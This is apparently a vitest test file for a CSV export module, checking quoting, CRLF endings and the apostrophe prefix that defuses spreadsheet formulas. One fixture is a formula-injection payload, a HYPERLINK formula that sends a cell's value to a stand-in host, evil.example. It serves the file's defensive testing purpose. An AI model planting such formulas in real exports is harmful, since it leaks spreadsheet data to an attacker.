import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvField, csvHeader, csvRecord } from './csv-record.js';

const TRICKY: unknown[] = [
  'plain',
  'say "hi"',
  '"',
  'a,b',
  'line\nbreak',
  'carriage\rreturn',
  'windows\r\nline',
  '\r\n',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1+1)',
  '-2+3',
  '@admin',
  '\tindented',
  '\rreturn',
  ' =not at the start',
  "'already quoted",
  'Ünïcødé ✓ 日本語 😀',
  '＝fullwidth equals',
  '',
  null,
  undefined,
  0,
  -1.5,
  true,
  false,
  { name: 'Acme, "Pro"', tags: ['a', 'b'], note: 'line\nbreak' },
  [{ field: 'key', message: 'is unknown' }],
];

const COLUMNS = TRICKY.map((_, i) => `c${i}`);
const ENTRY = Object.fromEntries(TRICKY.map((value, i) => [`c${i}`, value]));

/** What the export wrote through csv-stringify, kept as the reference for the bytes. */
function libraryCsv(records: string[][]): string {
  return stringify(records, { record_delimiter: 'windows', quoted_match: /[\r\n]/ });
}

describe('CSV records', () => {
  it('writes the same bytes as csv-stringify with the export options', () => {
    const cells = COLUMNS.map((column) => csvCell(ENTRY[column]));
    expect(csvHeader(COLUMNS) + csvRecord(COLUMNS, ENTRY)).toBe(libraryCsv([COLUMNS, cells]));
    for (const cell of cells) expect(`${csvField(cell)},x\r\n`).toBe(libraryCsv([[cell, 'x']]));
  });

  it('reads back with a CSV parser as one record per entry, each cell its documented text', () => {
    const text = csvHeader(COLUMNS) + csvRecord(COLUMNS, ENTRY) + csvRecord(COLUMNS, ENTRY);
    const [header, ...rows] = parse(text, { relax_column_count: false }) as string[][];
    expect(header).toEqual(COLUMNS);
    expect(rows).toHaveLength(2);
    const expected = [
      'plain',
      'say "hi"',
      '"',
      'a,b',
      'line\nbreak',
      'carriage\rreturn',
      'windows\r\nline',
      "'\r\n",
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      "'+SUM(1+1)",
      "'-2+3",
      "'@admin",
      "'\tindented",
      "'\rreturn",
      ' =not at the start',
      "'already quoted",
      'Ünïcødé ✓ 日本語 😀',
      '＝fullwidth equals',
      '',
      '',
      '',
      '0',
      '-1.5',
      'true',
      'false',
      '{"name":"Acme, \\"Pro\\"","tags":["a","b"],"note":"line\\nbreak"}',
      '[{"field":"key","message":"is unknown"}]',
    ];
    expect(rows[0]).toEqual(expected);
    expect(rows[1]).toEqual(expected);
  });

  it('ends every record with CRLF and quotes only the fields that need it', () => {
    expect(csvRecord(['a', 'b', 'c'], { a: 'x', b: null, c: 'y"z' })).toBe('x,,"y""z"\r\n');
    expect(csvRecord(['a'], { a: 'lone\nLF' })).toBe('"lone\nLF"\r\n');
    expect(csvRecord(['a'], { a: '-5' })).toBe("'-5\r\n");
    expect(csvRecord(['a'], { a: -5 })).toBe('-5\r\n');
  });
});
